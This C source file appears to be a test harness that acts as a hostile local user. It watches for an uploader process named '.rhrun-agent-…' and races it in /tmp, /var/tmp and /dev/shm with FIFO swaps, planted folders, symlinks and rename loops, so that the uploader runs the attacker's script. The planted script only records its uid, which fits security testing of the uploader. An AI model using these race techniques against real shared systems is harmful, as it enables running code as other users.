/*
 * Another user on a node, who wants the agent's uploader to run a program of his: `attack_upload FOLDER`, until SIGTERM.
 * He looks for a name .rhrun-agent-X in each new process's arguments and plays an attack at that name in /tmp, /var/tmp
 * and /dev/shm, one kind after the other. FOLDER is his; FOLDER/victim is the uploader's file. What he brought to run writes
 * its uid to FOLDER/owned; FOLDER/played has a line for each attack: its kind.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { FIFO, FOLDER, LINK, RENAME, LINK_TO_FILE, KINDS };
static const char *const kinds[KINDS] = {"fifo", "folder", "link", "rename", "link-to-file"};
static const char *const shared[] = {"/tmp", "/var/tmp", "/dev/shm"};
enum { SHARED = 3, WINDOW = 24, NAMES = 4096 };

static const char *own;

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec * 1e-9;
}

static void put(const char *path, const char *text, int flags, mode_t mode)
{
    int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC | flags, mode);
    if (fd >= 0) {
        if (write(fd, text, strlen(text)) < 0)
            perror(path);
        fchmod(fd, mode);
        close(fd);
    }
}

/* A program of his, at a path of his own. */
static const char *evil(char path[256])
{
    static unsigned serial;
    char text[512];
    snprintf(path, 256, "%s/evil.%d.%u", own, (int)getpid(), serial++);
    snprintf(text, sizeof text, "#!/bin/sh\nid -u >>%s/owned\n", own);
    put(path, text, O_EXCL, 0777);
    return path;
}

/* Waits at the FIFOs until somebody writes to one, puts his program in its place, and takes what is written to the end. */
static void swap_fifos(char path[SHARED][512])
{
    struct pollfd fds[SHARED];
    for (int i = 0; i < SHARED; i++) {
        mkfifo(path[i], 0666);
        fds[i] = (struct pollfd){.fd = open(path[i], O_RDONLY | O_NONBLOCK | O_CLOEXEC | O_NOFOLLOW), .events = POLLIN};
    }
    for (double end = now() + 1.5; now() < end;) {
        poll(fds, SHARED, 20);
        for (int i = 0; i < SHARED; i++) {
            static char sink[1 << 16];
            char program[256];
            if (fds[i].fd < 0 || !(fds[i].revents & POLLIN))
                continue;
            rename(evil(program), path[i]);
            while (read(fds[i].fd, sink, sizeof sink) > 0 || (errno == EAGAIN && poll(&fds[i], 1, 200) > 0))
                ;
            close(fds[i].fd);
            fds[i].fd = -1;
        }
    }
}

static void play(int kind, const char *name)
{
    static const char *const inside[] = {"rhrun-agent", "agent"};
    char at[SHARED][512], in[SHARED][512], program[256];
    for (int i = 0; i < SHARED; i++) {
        snprintf(at[i], sizeof at[i], "%s/%s", shared[i], name);
        snprintf(in[i], sizeof in[i], "%.400s/%s", at[i], inside[0]);
    }
    switch (kind) {
    case FIFO:
        swap_fifos(at);
        break;
    case FOLDER:
    case LINK:
        for (int i = 0; i < SHARED; i++) {
            char folder[300];
            snprintf(folder, sizeof folder, "%s/folder.%d.%d", own, (int)getpid(), i);
            if (mkdir(kind == LINK ? folder : at[i], 0777) == 0)
                chmod(kind == LINK ? folder : at[i], 0777);
            if (kind == LINK && symlink(folder, at[i]) < 0)
                in[i][0] = '\0';
        }
        swap_fifos(in);
        break;
    case RENAME: /* what the uploader has made is moved away, and his own is put there, again and again */
        for (double end = now() + 0.5; now() < end;)
            for (int i = 0; i < SHARED; i++) {
                char aside[300];
                snprintf(aside, sizeof aside, "%s/aside.%d.%d", own, (int)getpid(), i);
                rename(at[i], aside);
                rename(evil(program), at[i]);
                unlink(program);
                for (size_t k = 0; k < sizeof inside / sizeof *inside; k++) {
                    snprintf(in[i], sizeof in[i], "%.400s/%s", at[i], inside[k]);
                    rename(evil(program), in[i]);
                    unlink(program);
                }
            }
        break;
    case LINK_TO_FILE:
        for (int i = 0; i < SHARED; i++) {
            char victim[300];
            snprintf(victim, sizeof victim, "%s/victim", own);
            if (symlink(victim, at[i]) < 0)
                continue;
        }
        break;
    }
}

static bool is_new(const char *name)
{
    static char names[NAMES][64];
    static int count;
    for (int i = 0; i < count; i++)
        if (strcmp(names[i], name) == 0)
            return false;
    if (count == NAMES)
        return false;
    snprintf(names[count++], sizeof names[0], "%s", name);
    return true;
}

static void look_at(int pid)
{
    static const char mark[] = ".rhrun-agent-";
    static int kind;
    char path[128], text[16384], log[300], line[32];
    snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return;
    ssize_t n = read(fd, text, sizeof text - 1);
    close(fd);
    for (char *at = text; n > 0 && (at = memmem(at, (size_t)(text + n - at), mark, sizeof mark - 1));
         at += sizeof mark - 1) {
        char name[64];
        size_t len = sizeof mark - 1;
        while (at + len < text + n && len < sizeof name - 1 && strchr("0123456789abcdef", at[len]) && at[len])
            len++;
        snprintf(name, sizeof name, "%.*s", (int)len, at);
        if (len == sizeof mark - 1 || !is_new(name))
            continue;
        /* Every second time it is the FIFO, and at once: it must be there before the uploader opens its file. */
        int turn = kind++, mine = turn % 2 ? 1 + turn / 2 % (KINDS - 1) : FIFO;
        snprintf(path, sizeof path, "/tmp/%s", name);
        if (mine == FIFO)
            mkfifo(path, 0666);
        if (fork() == 0) {
            play(mine, name);
            _exit(0);
        }
        snprintf(log, sizeof log, "%s/played", own);
        snprintf(line, sizeof line, "%s\n", kinds[mine]);
        put(log, line, O_APPEND, 0666);
    }
}

int main(int argc, char **argv)
{
    if (argc != 2 || getuid() == 0)
        return 2;
    own = argv[1];
    umask(0);
    signal(SIGCHLD, SIG_IGN);
    int loads = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
    if (write(STDOUT_FILENO, "ready\n", 6) != 6)
        return 1;
    for (;;) {
        char text[128] = "";
        if (pread(loads, text, sizeof text - 1, 0) <= 0)
            return 1;
        int last = atoi(strrchr(text, ' ') + 1);
        for (int pid = last; pid > last - WINDOW && pid > 1; pid--)
            if (pid != getpid())
                look_at(pid);
    }
}
